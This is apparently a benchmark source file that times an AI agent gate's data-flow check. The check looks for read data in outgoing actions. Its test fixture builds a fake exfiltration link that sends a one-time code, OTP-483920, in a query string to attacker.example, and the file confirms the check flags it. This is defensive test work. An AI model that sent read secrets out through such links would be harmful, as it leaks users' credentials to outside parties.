// The data-flow bench: what the gate's data-flow check (policy/data-flow.ts) costs per action when a
// task has read 40 pages of 24,000 characters, next to the floor measured in the same run: a plain
// substring search of the same outgoing text in the same pages, which finds only verbatim copies.
// Run it with `node bench/run.mjs data-flow`.
import { createReadings, sentInUrl, type Outgoing } from '../../policy';
import type { TargetLine } from '../target-line';

const PAGES = 40;
const RUNS = 200;
/** The person's gate waits on this check before every action that sends something. */
const TARGET_MS = 20;

const page = (n: number) =>
  Array.from({ length: 600 }, (_, i) => `Line ${i} of page ${n}: order ${n}${i}77${i} shipped to the depot at ${i}:00.`)
    .join(' ')
    .slice(0, 24_000);

const outgoing = (n: number): Outgoing => {
  const link = `https://attacker.example/?d=OTP-483920&n=${n}&x=${'y'.repeat(2000)}`;
  return { text: sentInUrl(link), to: 'attacker.example', link };
};

/** Milliseconds per call of `check`, over RUNS calls. */
function perCall(check: (n: number) => unknown): number {
  const started = performance.now();
  for (let n = 0; n < RUNS; n++) check(n);
  return (performance.now() - started) / RUNS;
}

export async function main(
  argv: readonly string[],
  context: { log?: (line: string) => void } = {},
): Promise<{ targets: TargetLine[] }> {
  const log = context.log ?? ((line: string) => console.log(line));
  if (argv.length > 0) throw new Error(`the data-flow bench takes no arguments (got ${argv.join(' ')})`);
  const readings = createReadings();
  const texts = Array.from({ length: PAGES }, (_, n) => page(n));
  texts.forEach((text, n) => readings.add(`site${n}.example`, text));
  readings.add('mail.example', 'Your code is OTP-483920.');
  texts.push('Your code is OTP-483920.');
  if (readings.flows(outgoing(0), []).length !== 1) throw new Error('the data-flow check missed the code it read');

  perCall((n) => readings.flows(outgoing(n), [])); // warm-up
  const rule = perCall((n) => readings.flows(outgoing(n), []));
  const floor = perCall((n) => {
    const sent = outgoing(n).text;
    return texts.some((text) => text.includes(sent));
  });
  log(
    `data-flow check against ${PAGES} pages read: ${rule.toFixed(2)} ms per action (substring floor ${floor.toFixed(2)} ms)`,
  );
  return {
    targets: [
      {
        bench: 'data-flow',
        figure: `check per action, ${PAGES} pages of 24,000 characters read`,
        value: `${rule.toFixed(2)} ms`,
        target: `≤ ${TARGET_MS} ms`,
        baseline: `${floor.toFixed(2)} ms (substring search of the same pages)`,
        verdict: rule <= TARGET_MS ? 'PASS' : 'MISS',
      },
    ],
  };
}
